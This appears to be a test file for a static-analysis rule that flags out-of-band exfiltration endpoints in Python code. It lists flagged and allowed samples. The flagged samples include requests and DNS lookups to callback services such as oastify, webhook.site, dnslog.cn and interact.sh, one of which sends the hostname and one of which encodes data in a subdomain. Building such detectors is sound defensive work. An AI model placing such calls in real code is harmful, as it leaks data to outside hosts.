# Test for oob-exfil-endpoint (defanged: subdomains are made up, nothing is sent).
import os
import socket
import webbrowser

import requests

# ruleid: oob-exfil-endpoint
requests.get("http://abc123def456.oastify.com", params={"h": socket.gethostname()})
# ruleid: oob-exfil-endpoint
requests.post("https://webhook.site/0b1957da-0000-0000-0000-000000000000/", data={"k": "v"})
# ruleid: oob-exfil-endpoint
socket.gethostbyname("data.x1y2z3.ceye.io")

# ok: oob-exfil-endpoint
requests.get("https://example.invalid/api")
# ok: oob-exfil-endpoint
note = "See the interactsh documentation for details"
# ok: oob-exfil-endpoint
host = "pipedream.example.invalid"
# ok: oob-exfil-endpoint
# e.g. curl http://abc123def456.oastify.com while testing the probe
# ruleid: oob-exfil-endpoint
socket.gethostbyname("4142434445464748494a4b4c4d4e4f505152535455565758595a5b5c5d5e5f606162636465666768696a6b6c6d6e.dnslog.cn")
# ruleid: oob-exfil-endpoint
CANARY = "https://x9y8z7.interact.sh/c"
# ruleid: oob-exfil-endpoint
requests.get(CANARY, params={"u": "x"})
# ruleid: oob-exfil-endpoint
canary = os.environ.get("CANARY_URL", "http://canarytokens.com/images/tags/abcdefghij0123456789xy/payments.js")
# ruleid: oob-exfil-endpoint
webbrowser.open_new_tab("https://c0ffee12.oast.cz?id=pkg-1")
# ok: oob-exfil-endpoint
docs = "https://docs.canarytokens.org/guide/"
# ok: oob-exfil-endpoint
coast = "https://toast.coast.example.invalid/"
